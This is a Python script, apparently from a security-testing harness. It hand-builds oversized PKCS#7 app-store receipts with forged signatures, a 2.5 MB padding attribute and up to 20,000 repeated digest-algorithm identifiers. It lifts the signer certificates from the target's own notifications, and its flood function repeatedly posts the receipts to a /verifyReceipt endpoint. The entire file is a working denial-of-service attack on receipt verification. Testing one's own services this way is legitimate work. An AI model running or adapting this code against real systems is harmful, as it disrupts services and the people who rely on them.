"""Receipts of 3 MB with a forged signature that list hundreds and thousands of digest algorithms."""

import base64
import itertools
import json

from notifications import post_all
from wire import APP, post

SHA3_512 = bytes.fromhex("300b060960864801650304020a")
SHA_256 = bytes.fromhex("300b0609608648016503040201")
ECDSA_WITH_SHA_256 = bytes.fromhex("300a06082a8648ce3d040302")
SIGNED_DATA = bytes.fromhex("06092a864886f70d010702")
DATA = bytes.fromhex("06092a864886f70d010701")
INTEGER, OCTET_STRING, UTF8_STRING, SEQUENCE, SET, CONTEXT = 0x02, 0x04, 0x0C, 0x30, 0x31, 0xA0


def element(tag, *content):
    content = b"".join(content)
    size = len(content)
    digits = size.to_bytes((size.bit_length() + 7) // 8, "big")
    return bytes([tag]) + (bytes([size]) if size < 128 else bytes([0x80 | len(digits)]) + digits) + content


def children(der):
    """The elements in an element."""
    found, position = [], content_start(der, 0)[0]
    while position < len(der):
        start, size = content_start(der, position)
        found.append(der[position : start + size])
        position = start + size
    return found


def content_start(der, position):
    """The positions of an element's content, and its size."""
    first = der[position + 1]
    if first < 128:
        return position + 2, first
    start = position + 2 + (first & 127)
    return start, int.from_bytes(der[position + 2 : start], "big")


def certificates(notification):
    """Those of the signer of a notification: strangers have genuine ones."""
    header = json.loads(notification)["signedPayload"].split(".")[0]
    return [base64.b64decode(text) for text in json.loads(base64.urlsafe_b64decode(header + "=" * (-len(header) % 4)))["x5c"]]


def attribute(kind, value):
    return element(SEQUENCE, element(INTEGER, bytes([kind])), element(INTEGER, b"\1"), element(OCTET_STRING, value))


def receipt(chain, algorithms, size=2_500_000):
    content = element(
        SET, attribute(0, element(UTF8_STRING, b"ProductionSandbox")), attribute(2, element(UTF8_STRING, b"com.example.oceanjournal")),
        attribute(99, bytes(size)))  # fmt: skip
    _, serial, _, issuer, *_ = children(children(chain[0])[0])
    signature = element(SEQUENCE, element(INTEGER, b"\1"), element(INTEGER, b"\1"))
    signer = element(
        SEQUENCE, element(INTEGER, b"\1"), element(SEQUENCE, issuer, serial), SHA_256, ECDSA_WITH_SHA_256,
        element(OCTET_STRING, signature))  # fmt: skip
    signed = element(
        SEQUENCE, element(INTEGER, b"\1"), element(SET, SHA3_512 * algorithms),
        element(SEQUENCE, DATA, element(CONTEXT, element(OCTET_STRING, content))), element(CONTEXT, *chain),
        element(SET, signer))  # fmt: skip
    return element(SEQUENCE, SIGNED_DATA, element(CONTEXT, signed))


def flood(target, until):
    chain = certificates(target.notifications[0])
    receipts = [base64.b64encode(receipt(chain, algorithms)).decode() for algorithms in (800, 20_000)]
    requests = [post(f"/verifyReceipt/{APP}", {"receipt-data": text}) for text in receipts]
    return post_all(target, until, itertools.cycle(requests))
